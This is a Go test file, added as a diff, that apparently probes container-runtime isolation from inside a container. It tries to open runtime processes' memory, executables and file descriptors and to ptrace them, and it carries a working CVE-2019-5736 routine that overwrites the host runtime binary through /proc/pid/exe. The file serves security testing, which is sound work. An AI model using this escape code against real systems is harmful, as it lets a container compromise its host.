@@ -1,0 +1,138 @@
+// This file holds the attacks on other processes: those of the runtime that can be seen from inside a container.
+package test
+
+import (
+	"fmt"
+	"os"
+	"strconv"
+	"strings"
+	"time"
+
+	"golang.org/x/sys/unix"
+)
+
+// stalk waits for processes that call themselves by this name, and tries to get hold of each: its memory, its files, its
+// program. What is tried counts only if the process still has that name afterwards.
+func stalk(args []string) error {
+	fmt.Println("begin")
+	met := map[int]bool{}
+	for {
+		for _, pid := range others() {
+			if met[pid] || !isCalled(pid, args[0]) {
+				continue
+			}
+			for what, try := range holds {
+				if err := try(pid); isCalled(pid, args[0]) {
+					fmt.Printf("%d %s: %s\n", pid, what, word(err))
+				}
+			}
+			met[pid] = isCalled(pid, args[0])
+			if met[pid] {
+				fmt.Printf("%d met\n", pid)
+			}
+		}
+	}
+}
+
+// holds are the ways to get hold of a process. All of them take what man 2 ptrace calls access mode checks.
+var holds = map[string]func(pid int) error{
+	"program": func(pid int) error { return opened(pid, "exe", unix.O_RDONLY) },
+	"memory":  func(pid int) error { return opened(pid, "mem", unix.O_RDWR) },
+	"root":    func(pid int) error { return opened(pid, "root/.", unix.O_RDONLY) },
+	"directory": func(pid int) error {
+		return opened(pid, "cwd/.", unix.O_RDONLY)
+	},
+	"files": func(pid int) error {
+		_, err := os.ReadDir(fmt.Sprintf("/proc/%d/fd", pid))
+		return err
+	},
+	"trace": func(pid int) error {
+		if _, _, errno := unix.RawSyscall6(unix.SYS_PTRACE, unix.PTRACE_SEIZE, uintptr(pid), 0, 0, 0, 0); errno != 0 {
+			return errno
+		}
+		return unix.PtraceDetach(pid)
+	},
+}
+
+func opened(pid int, name string, flags int) error {
+	fd, err := unix.Open(fmt.Sprintf("/proc/%d/%s", pid, name), flags|unix.O_CLOEXEC, 0)
+	if err == nil {
+		unix.Close(fd)
+	}
+	return err
+}
+
+// overwrite waits for a process whose program is not the probe, keeps the program open, and once it is no longer executed
+// writes to it: CVE-2019-5736. The second word is how long to try, the first part of the program's path on the host.
+func overwrite(args []string) error {
+	fmt.Println("begin")
+	for {
+		for _, pid := range others() {
+			exe, err := unix.Open(fmt.Sprintf("/proc/%d/exe", pid), unix.O_RDONLY|unix.O_CLOEXEC, 0)
+			if err != nil {
+				continue
+			}
+			if !contains(exe, args[0]) {
+				unix.Close(exe)
+				continue
+			}
+			fmt.Println("opened")
+			err = writeThrough(exe)
+			fmt.Println("write:", word(err))
+			unix.Close(exe)
+		}
+	}
+}
+
+// writeThrough opens a file anew by its descriptor, as soon as nobody executes it.
+func writeThrough(fd int) error {
+	for range 500 {
+		again, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
+		if err == unix.ETXTBSY {
+			time.Sleep(time.Millisecond)
+			continue
+		}
+		if err == nil {
+			_, err = unix.Write(again, []byte("owned"))
+			unix.Close(again)
+		}
+		return err
+	}
+	return unix.ETXTBSY
+}
+
+// contains looks for a mark at the end of a file.
+func contains(fd int, mark string) bool {
+	var st unix.Stat_t
+	end := make([]byte, len(mark))
+	if unix.Fstat(fd, &st) != nil {
+		return false
+	}
+	_, err := unix.Pread(fd, end, st.Size-int64(len(mark)))
+	return err == nil && string(end) == mark
+}
+
+// others are the processes that are to be seen here, but this one and its threads.
+func others() []int {
+	dir, err := os.Open("/proc")
+	if err != nil {
+		return nil
+	}
+	defer dir.Close()
+	names, err := dir.Readdirnames(-1)
+	if err != nil {
+		return nil
+	}
+	var pids []int
+	for _, name := range names {
+		if pid, err := strconv.Atoi(name); err == nil && pid != os.Getpid() {
+			pids = append(pids, pid)
+		}
+	}
+	return pids
+}
+
+func isCalled(pid int, name string) bool {
+	line, err := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
+	return err == nil && strings.HasPrefix(string(line), name+"\x00")
+}
